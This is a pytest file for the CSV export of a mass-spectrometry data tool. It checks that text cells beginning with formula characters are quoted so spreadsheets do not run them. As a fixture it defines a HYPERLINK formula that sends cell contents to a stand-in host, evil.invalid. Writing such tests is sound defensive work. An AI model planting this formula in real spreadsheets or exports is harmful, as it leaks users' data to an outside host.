"""`asnmon export`: a CSV a spreadsheet opens without running anything in it."""

from __future__ import annotations

import csv
import shutil
from pathlib import Path

import polars as pl
import pytest

from asnmon.assay import Assay
from asnmon.cli import main
from asnmon.export import FORMULA_START, quote_formulas
from asnmon.pipeline import RunIngestor, ingest_paths
from asnmon.simulate import SimConfig, simulate_run
from asnmon.store import RunInfo, Store
from asnmon.worklist import load_worklist

HYPERLINK = '=HYPERLINK("http://evil.invalid/?leak="&A1,"click me")'


def read_cells(path: Path) -> list[dict[str, str]]:
    """The CSV as a spreadsheet receives it: raw text cells."""
    with path.open(newline="", encoding="utf-8-sig") as fh:  # as Excel does: BOM = UTF-8
        return list(csv.DictReader(fh))


@pytest.mark.parametrize("start", FORMULA_START)
def test_text_that_starts_a_formula_is_quoted_numbers_are_not(start: str, tmp_path: Path) -> None:
    frame = pl.DataFrame(
        {
            "text": [f"{start}1+1", "plain", None, "a=b", "'already"],
            "number": [-3.5, 2.0, None, -0.0, 1e-9],
            "count": [-2, 0, None, 5, -7],
        }
    )
    out = tmp_path / "x.csv"
    quote_formulas(frame).write_csv(out)
    cells = read_cells(out)
    assert [c["text"] for c in cells] == [f"'{start}1+1", "plain", "", "a=b", "'already"]
    assert [c["number"] for c in cells] == ["-3.5", "2.0", "", "-0.0", "1e-9"]
    assert [c["count"] for c in cells] == ["-2", "0", "", "5", "-7"]
    back = pl.read_csv(out)
    assert back["number"].to_list() == frame["number"].to_list()  # still numbers
    assert back["count"].to_list() == frame["count"].to_list()


def test_export_of_a_worklist_with_formula_sample_ids(tmp_path: Path, assay: Assay) -> None:
    folder = tmp_path / "run"
    sim = simulate_run(folder, SimConfig(n_samples=4, seed=3))
    with sim.worklist_path.open(encoding="utf-8") as fh:
        table = list(csv.DictReader(fh))
    crafted = {"016_S0001": HYPERLINK, "017_S0002": "-12", "018_S0003": "@SUM(A1:A9)"}
    for row in table:
        row["sample_id"] = crafted.get(row["file"], row["sample_id"])
    with (folder / "worklist.csv").open("w", newline="", encoding="utf-8") as fh:
        writer = csv.DictWriter(fh, list(table[0].keys()))
        writer.writeheader()
        writer.writerows(table)
    db = tmp_path / "e.duckdb"
    with Store(db) as store:
        ingestor = RunIngestor(
            store, assay, RunInfo("run", "run"), load_worklist(folder / "worklist.csv")
        )
        ingest_paths(ingestor, sorted(folder.glob("*.mzML")))

    assert main(["export", "--db", str(db), "--out", str(tmp_path / "r.csv")]) == 0
    assert main(["export", "--db", str(db), "--out", str(tmp_path / "r.parquet")]) == 0
    cells = {Path(c["file"]).stem: c for c in read_cells(tmp_path / "r.csv")}
    assert cells["016_S0001"]["sample_id"] == "'" + HYPERLINK
    assert cells["017_S0002"]["sample_id"] == "'-12"
    assert cells["018_S0003"]["sample_id"] == "'@SUM(A1:A9)"
    for row in cells.values():  # no text cell of the export starts a formula
        assert not any(v.startswith(FORMULA_START) for v in row.values()), row
    frame = pl.read_csv(tmp_path / "r.csv")
    assert frame.schema["analyte_area"] == pl.Int64  # numbers are still numbers (counts)
    assert frame.schema["accuracy_pct"] == pl.Float64
    raw = (tmp_path / "r.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads UTF-8, not the ANSI page
    assert {c["unit"] for c in cells.values() if c["unit"]} == {"µM"}
    for row in cells.values():  # the documented rounding, cell by cell as written
        for col in ("conc_vial", "conc"):
            if row[col]:
                digits = row[col].replace(".", "").replace("-", "").lstrip("0")
                assert len(digits.rstrip("0") or "0") <= 3, (col, row[col])
        for col in ("analyte_area", "is_area"):
            assert row[col] == "" or row[col].isdigit(), (col, row[col])
        for col in ("accuracy_pct", "is_pct"):
            assert row[col] == "" or len(row[col].split(".")[-1]) <= 1, (col, row[col])
    parquet = pl.read_parquet(tmp_path / "r.parquet")  # typed: the value as the lab wrote it
    ids = dict(zip(parquet["file"], parquet["sample_id"], strict=True))
    assert ids["016_S0001.mzML"] == HYPERLINK and ids["017_S0002.mzML"] == "-12"
    shutil.rmtree(folder)
